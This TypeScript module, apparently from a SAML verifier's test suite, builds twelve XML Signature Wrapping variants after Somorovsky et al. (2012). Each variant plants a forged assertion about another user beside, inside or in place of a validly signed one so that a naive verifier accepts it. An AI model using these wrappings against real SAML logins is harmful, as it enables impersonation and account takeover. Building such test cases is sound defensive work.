import {
  assertionIn,
  assertionSigned,
  atEndOf,
  EVIL,
  forged,
  idOf,
  responseSignature,
  responseUnsigned,
  signatureIn,
  withId,
  withoutSignature,
} from './parts.ts'

type Wrap = (text: string) => string

const DS = 'http://www.w3.org/2000/09/xmldsig#'

/** A document that is moved into another is no document any more. */
const asElement = (text: string): string => text.replace(/^\s*<\?xml[^>]*\?>\s*/, '')

/** A response about somebody else, with this in the place of its signature. */
const evilResponse = (text: string, signature: string): string => {
  const { before, element, after } = assertionIn(text)
  const { before: head, after: tail } = signatureIn(before)
  return withId(head + signature + tail + forged(withoutSignature(element)) + after, EVIL)
}

/** The signature of the response holds the response that was signed. */
const responseInSignature: Wrap = (text) =>
  evilResponse(text, atEndOf(responseSignature(text), asElement(responseUnsigned(text))))

/** It stands beside the signature. */
const responseBeside: Wrap = (text) => evilResponse(text, asElement(responseUnsigned(text)) + responseSignature(text))

interface Pieces {
  /** As it was signed. */
  readonly assertion: string
  readonly signature: string
  /** Without its signature: the place from which that was taken is forgotten by the verifier, too. */
  readonly original: string
  /** About somebody else, under an ID of its own, without a signature. */
  readonly evil: string
}

/** Puts something in the place of the assertion, whose signature is the only one then. */
const replacing =
  (make: (pieces: Pieces) => string): Wrap =>
  (text) => {
    const { before, element: assertion, after } = assertionIn(assertionSigned(text))
    const signature = signatureIn(assertion).element
    const original = withoutSignature(assertion)
    return before + make({ assertion, signature, original, evil: withId(forged(original), EVIL) }) + after
  }

/** Where SAML wants the signature: behind the issuer. */
const signedWith = (element: string, signature: string): string =>
  element.replace(/<\/(?:[\w-]+:)?Issuer>/, (end) => end + signature)

const extensions = (inner: string): string =>
  `<samlp:Extensions xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">${inner}</samlp:Extensions>`

/**
 * Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be (2012): what was signed is kept where a verifier finds
 * it by its ID, and something else stands where a reader looks.
 */
export const wrappings = {
  'response-in-signature': responseInSignature,
  'response-beside': responseBeside,
  'assertion-before': replacing(({ evil, assertion }) => evil + assertion),
  'assertion-within': replacing(({ evil, assertion }) => atEndOf(evil, assertion)),
  'assertion-behind': replacing(({ evil, signature, original }) => signedWith(evil, signature) + original),
  'assertion-in-signature': replacing(({ evil, signature, original }) =>
    signedWith(evil, atEndOf(signature, original)),
  ),
  'in-extensions': replacing(({ evil, assertion, original }) => extensions(withId(evil, idOf(original))) + assertion),
  'in-object': replacing(({ evil, signature, original }) =>
    signedWith(evil, atEndOf(signature, `<ds:Object xmlns:ds="${DS}">${original}</ds:Object>`)),
  ),
  'same-id-before': replacing(({ evil, assertion }) => withId(evil, idOf(assertion)) + assertion),
  'same-id-behind': replacing(({ evil, assertion }) => assertion + withId(evil, idOf(assertion))),
  'unsigned-behind': replacing(({ evil, assertion }) => assertion + evil),
  'without-id-before': replacing(({ evil, assertion }) => evil.replace(/ ID="[^"]*"/, '') + assertion),
} as const satisfies Readonly<Record<string, Wrap>>
